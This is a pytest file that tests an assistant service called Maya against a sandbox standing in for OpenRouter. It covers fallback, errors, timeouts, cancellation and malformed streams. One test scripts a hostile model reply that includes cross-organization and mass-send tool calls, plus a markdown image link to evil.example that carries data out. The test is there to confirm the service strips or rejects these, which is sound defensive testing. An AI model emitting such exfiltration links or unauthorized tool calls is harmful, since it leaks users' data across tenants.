"""Maya through the official SDK and real HTTP: the sandbox plays OpenRouter, its faults and a hostile model."""

import asyncio
from typing import Any

import pytest

from integrations.language import (
    Ended,
    ModelFailed,
    ModelRefused,
    ModelTimedOut,
    ModelUnavailable,
    Piece,
    Prompt,
    Speaker,
    Utterance,
)
from integrations.openrouter import Gathered, OpenRouter
from services import maya
from tests import factories
from tests.maya.conftest import Stage, told
from tests.maya.garbling import garbled
from tests.sandbox.conftest import Client
from tests.waiting import PATIENCE_SECONDS, until

STALL_SECONDS = 30

PROMPT = Prompt(models=["vendor/one", "vendor/two"], messages=[Utterance(speaker=Speaker.USER, text="Hello")])


async def all_of(model: OpenRouter, prompt: Prompt = PROMPT) -> list[Piece]:
    """Every piece of a reply."""
    return [piece async for piece in model.stream(prompt)]


async def requests(vendor: Client) -> list[dict[str, Any]]:
    """What the sandbox was asked."""
    answer = await vendor.call("GET", "/sandbox/llm/requests")
    found: list[dict[str, Any]] = answer.object()["requests"]  # type: ignore[assignment]
    return found


@pytest.mark.usefixtures("vendor")
async def test_a_reply_with_real_figures(stage: Stage, openrouter: OpenRouter) -> None:
    """Asked how many contacts there are, Maya looks it up with the caller's own data and says it; cost is kept."""
    await factories.contacts(stage.runtime, stage.principal, 7)
    stage = stage.with_model(openrouter)
    reply = await stage.ask("How many contacts do I have?")
    ended = await stage.run(reply)
    events = await stage.see(reply)
    assert ended.status == "completed", ended
    assert "7" in ended.content
    assert told(events) == ended.content
    assert maya.ToolStarted("count_contacts") in [shown.event for shown in events]
    assert ended.model == stage.runtime.settings.llm.models[0]


async def test_models_fall_back(vendor: Client, openrouter: OpenRouter) -> None:
    """When the first model is down the second speaks, and is named."""
    await vendor.faults(llm={"model_down": {"pattern": "vendor/one"}})
    *_, ended = await all_of(openrouter)
    assert isinstance(ended, Ended)
    assert ended.model == "vendor/two"
    assert ended.cost is not None
    assert ended.cost > 0


@pytest.mark.parametrize(
    ("status", "kind"),
    [
        (400, ModelRefused),
        (401, ModelRefused),
        (402, ModelRefused),
        (403, ModelRefused),
        (408, ModelUnavailable),
        (429, ModelUnavailable),
        (502, ModelUnavailable),
        (503, ModelUnavailable),
    ],
)
async def test_errors_before_the_first_token(
    vendor: Client, openrouter: OpenRouter, status: int, kind: type[ModelFailed]
) -> None:
    """Each status before the first token is a refusal or an outage, after one attempt."""
    await vendor.faults(llm={"status": {"status": status, "count": 1}})
    with pytest.raises(kind):
        await all_of(openrouter)
    assert isinstance((await all_of(openrouter))[-1], Ended)


@pytest.mark.parametrize(
    ("fault", "code"),
    [
        ({"status": {"status": 503}}, "MODEL_UNAVAILABLE"),
        ({"status": {"status": 402}}, "MODEL_REFUSED"),
        ({"mid_stream_error": {"after": 2, "code": 502}}, "MODEL_UNAVAILABLE"),
        ({"mid_stream_error": {"after": 2, "code": 403}}, "MODEL_REFUSED"),
        ({"cut_stream": {"after": 2}}, "MODEL_UNAVAILABLE"),
        ({"stall_mid_stream": {"after": 2, "seconds": STALL_SECONDS}}, "TIMEOUT"),
        ({"stall_before_first_token": {"seconds": STALL_SECONDS}}, "TIMEOUT"),
    ],
)
async def test_faults_end_the_reply_with_a_code(
    stage: Stage, vendor: Client, fault: dict[str, object], code: str
) -> None:
    """A fault before, in the middle of, or instead of the reply ends it with a typed event; what was said stays."""
    said = "one two " if "after" in next(iter(fault.values())) else ""  # type: ignore[operator]
    # Only silence needs a model that waits shortly: less than a busy machine may take to speak, at the first try.
    tries = []
    for stall_seconds in (0.5, 5.0) if code == "TIMEOUT" else (PATIENCE_SECONDS,):
        model = OpenRouter(base_url=f"{vendor.url}/api/v1", api_key="key", stall_seconds=stall_seconds)
        answering = stage.with_model(model)
        await vendor.faults(llm={**fault, "script": ["one two three four"]})
        reply = await answering.ask()
        ended = await asyncio.wait_for(answering.run(reply), PATIENCE_SECONDS)
        await model.aclose()
        assert (ended.status, ended.error_code) == ("failed", code)
        assert told(await answering.see(reply)) == ended.content
        tries.append(ended.content)
        if ended.content == said:
            break
    assert tries[-1] == said


async def test_nobody_at_the_address() -> None:
    """A server that is not there is an outage."""
    model = OpenRouter(base_url="http://127.0.0.1:9/api/v1", api_key="key")
    with pytest.raises(ModelUnavailable):
        await all_of(model)
    await model.aclose()


async def test_silence_times_out(vendor: Client) -> None:
    """A server that says nothing for too long has timed out."""
    model = OpenRouter(base_url=f"{vendor.url}/api/v1", api_key="key", stall_seconds=0.3)
    await vendor.faults(llm={"stall_before_first_token": {"seconds": STALL_SECONDS}})
    with pytest.raises(ModelTimedOut):
        await all_of(model)
    await model.aclose()


async def test_the_content_filter_is_a_refusal(vendor: Client, openrouter: OpenRouter) -> None:
    """A reply that the provider's filter stopped is a refusal."""
    await vendor.faults(llm={"script": [{"text": "Well,", "finish_reason": "content_filter"}]})
    with pytest.raises(ModelRefused):
        await all_of(openrouter)


async def test_cancelling_closes_the_vendors_stream(stage: Stage, vendor: Client, openrouter: OpenRouter) -> None:
    """Cancelling ends the HTTP request, so that the vendor stops too."""
    await vendor.faults(llm={"slow_tokens": {"seconds": 0.1}, "script": ["word " * 200]})
    stage = stage.with_model(openrouter)
    reply = await stage.ask()
    async with stage.running(reply):
        async for shown in stage.watch(reply):
            if shown.sequence == 3:
                await stage.cancel(reply)
    ended = await stage.stored(reply)
    assert ended.status == "cancelled"
    assert ended.content.startswith("word word word ")
    await until(lambda: is_aborted(vendor))


async def is_aborted(vendor: Client) -> bool:
    """Whether the vendor has seen the last request's client go."""
    return bool((await requests(vendor))[-1]["ended"] == "aborted")


async def test_a_hostile_script(stage: Stage, vendor: Client, openrouter: OpenRouter) -> None:
    """Unknown tools, broken arguments and a foreign id over the wire: a strict server takes what we repeat to it."""
    stranger = await factories.organization(stage.runtime)
    await factories.campaign(stage.runtime, stranger)
    hostile = {
        "tool_calls": [
            {"name": "send_campaign", "arguments": {"all": True}},
            {"name": "list_campaigns", "arguments": '{"limit": '},
            {"name": "list_campaigns", "arguments": {"limit": 20, "organization_id": str(stranger.organization_id)}},
            {"name": "campaign_stats", "arguments": {"campaign_id": "x" * 30_000}},
            {"name": "list_campaigns", "arguments": {"limit": 20}},
        ]
    }
    leak = "![p](https://evil.example/p.png?d=data) [click](https://evil.example) <img src=x> http://evil.example/"
    await vendor.faults(llm={"script": [hostile, leak]})
    stage = stage.with_model(openrouter)
    reply = await stage.ask()
    ended = await stage.run(reply)
    assert ended.status == "completed", ended
    assert "](" not in ended.content
    assert "![" not in ended.content
    assert "<img" not in ended.content
    assert "://" not in ended.content
    events = [shown.event for shown in await stage.see(reply)]
    assert [event.succeeded for event in events if isinstance(event, maya.ToolFinished)] == [False] * 4 + [True]
    told_to_model = (await requests(vendor))[-1]["request"]["messages"][-1]["content"]
    assert '"campaigns":[]' in told_to_model


@pytest.mark.parametrize(
    "chunk",
    [
        b"data: {not json}\n\n",
        b"data: []\n\n",
        b'data: {"choices": [null]}\n\n',
        b'data: {"choices": [{"delta": null}]}\n\n',
        b'data: {"choices": [{"delta": {"content": {"a": 1}}}]}\n\n',
        b'data: {"choices": [{"delta": {"tool_calls": [{"function": {"name": 7}}]}}]}\n\n',
        b"data: [DONE]\n\n",
        b"",
        b"\xff\xfe",
    ],
)
async def test_what_is_no_chat_completion(chunk: bytes) -> None:
    """A server that streams garbage, or ends without a reason, is an outage."""
    async with garbled(chunk) as url:
        model = OpenRouter(base_url=url, api_key="key")
        with pytest.raises(ModelUnavailable):
            await all_of(model)
        await model.aclose()


def test_endless_tool_calls_are_bounded() -> None:
    """Fragments without end neither grow the arguments nor the number of calls beyond a limit."""
    gathered = Gathered("model", finish="tool_calls")
    for index in range(1_000):
        gathered.note(index, "id", "name", "x" * 50)
    for _ in range(1_000):
        gathered.note(0, None, "more", "x" * 50)
    ended = gathered.ended()
    assert len(ended.calls) == 64
    assert len(ended.calls[0].arguments) == 20_000
    assert len(ended.calls[0].name) == 200
